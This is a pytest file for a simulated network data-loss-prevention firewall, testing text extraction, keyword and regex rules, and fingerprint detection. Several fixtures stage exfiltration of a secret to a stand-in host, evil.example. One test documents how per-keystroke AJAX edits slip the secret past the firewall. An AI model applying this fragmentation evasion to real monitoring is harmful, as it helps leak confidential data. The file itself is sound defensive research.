"""Tests for the network-level DLP baselines."""

import pytest

from repro.browser.http import HttpRequest
from repro.dlp import (
    DlpMode,
    KeywordRule,
    NetworkDlpFirewall,
    RegexRule,
    RuleScanner,
    extract_wire_text,
)
from repro.errors import RequestBlocked
from repro.fingerprint.config import TINY_CONFIG

from conftest import OTHER_TEXT, SECRET_TEXT, EnterpriseFixture


class TestWireExtractor:
    def test_form_values_extracted(self):
        request = HttpRequest(
            "POST", "https://x.example/save",
            form_data={"page": "Home", "body": "the content"},
        )
        assert set(extract_wire_text(request)) == {"Home", "the content"}

    def test_json_strings_extracted_recursively(self):
        request = HttpRequest(
            "POST", "https://x.example/api",
            body='{"a": "one", "b": {"c": ["two", 3]}, "d": null}',
        )
        assert set(extract_wire_text(request)) == {"one", "two"}

    def test_non_json_body_taken_raw(self):
        request = HttpRequest("POST", "https://x.example/api", body="raw payload")
        assert extract_wire_text(request) == ["raw payload"]

    def test_empty_request(self):
        assert extract_wire_text(HttpRequest("GET", "https://x.example/")) == []

    def test_blank_fragments_dropped(self):
        request = HttpRequest(
            "POST", "https://x.example/", form_data={"a": "  ", "b": "text"}
        )
        assert extract_wire_text(request) == ["text"]


class TestRuleScanner:
    def test_keyword_rule(self):
        scanner = RuleScanner([KeywordRule("conf", "CONFIDENTIAL")])
        assert scanner.scan_text("this is Confidential material") == ["conf"]
        assert scanner.scan_text("public info") == []

    def test_regex_rule(self):
        scanner = RuleScanner([RegexRule("card", r"\b\d{4}-\d{4}-\d{4}-\d{4}\b")])
        assert scanner.scan_text("pay with 1234-5678-9012-3456 now") == ["card"]

    def test_scan_request(self):
        scanner = RuleScanner([KeywordRule("code", "nightingale")])
        request = HttpRequest(
            "POST", "https://x.example/", form_data={"m": "project Nightingale beta"}
        )
        assert scanner.scan_request(request) == ["code"]

    def test_interceptor_records_but_never_blocks(self):
        scanner = RuleScanner([KeywordRule("code", "secret")])
        request = HttpRequest("POST", "https://x.example/", body="the secret plan")
        scanner(request)  # must not raise
        assert scanner.matches == [("code", "https://x.example/")]


class TestFirewall:
    @pytest.fixture
    def firewall(self):
        fw = NetworkDlpFirewall(TINY_CONFIG, threshold=0.5)
        fw.register_sensitive("doc-1", SECRET_TEXT)
        return fw

    def test_detects_form_exfiltration(self, firewall):
        request = HttpRequest(
            "POST", "https://evil.example/post", form_data={"body": SECRET_TEXT}
        )
        detections = firewall.scan_request(request)
        assert detections
        assert detections[0].document_id == "doc-1"
        assert detections[0].score == 1.0

    def test_ignores_clean_traffic(self, firewall):
        request = HttpRequest(
            "POST", "https://ok.example/post", form_data={"body": OTHER_TEXT}
        )
        assert firewall.scan_request(request) == []

    def test_misses_single_char_deltas(self, firewall):
        """The structural blind spot: per-keystroke deltas never carry
        enough text to fingerprint."""
        for ch in SECRET_TEXT:
            request = HttpRequest(
                "POST",
                "https://docs.example/sync",
                body=f'{{"op": "insert", "chars": "{ch}", "index": 0}}',
            )
            assert firewall.scan_request(request) == []

    def test_block_mode_raises(self, firewall):
        firewall.mode = DlpMode.BLOCK
        request = HttpRequest(
            "POST", "https://evil.example/post", form_data={"body": SECRET_TEXT}
        )
        with pytest.raises(RequestBlocked):
            firewall(request)

    def test_monitor_mode_records(self, firewall):
        request = HttpRequest(
            "POST", "https://evil.example/post", form_data={"body": SECRET_TEXT}
        )
        firewall(request)  # no exception
        counters = firewall.metrics.snapshot()
        assert counters["requests_seen"] == 1
        assert counters["detections"] == len(firewall.detections) >= 1
        # The internal engine shares the firewall's registry.
        assert firewall.registry.snapshot()["engine.paragraph.queries"] > 0


class TestFirewallOnNetwork:
    def test_firewall_catches_form_service_but_not_ajax_editor(self):
        """The head-to-head behind the paper's §2.2 argument."""
        e = EnterpriseFixture()
        # Detach BrowserFlow so only the wire-level baseline guards.
        e.browser.page_hooks.clear()

        firewall = NetworkDlpFirewall(TINY_CONFIG, threshold=0.5)
        firewall.register_sensitive("guidelines", SECRET_TEXT)
        e.network.add_interceptor(firewall)

        # Form-based exfiltration: the full text is on the wire.
        firewall.mode = DlpMode.BLOCK
        ok = e.wiki.edit(e.browser.new_tab(), "Leak", SECRET_TEXT)
        assert not ok
        assert e.wiki.page_text("Leak") == ""

        # AJAX-editor exfiltration via typing: only fragments on the
        # wire; the firewall is blind and the secret reaches the cloud.
        editor = e.docs.open_editor(e.browser.new_tab())
        par = editor.new_paragraph()
        delivered = editor.type_text(par, SECRET_TEXT)
        assert delivered == len(SECRET_TEXT)
        stored = e.docs.backend.get(editor.doc_id).paragraphs[0][1]
        assert stored == SECRET_TEXT
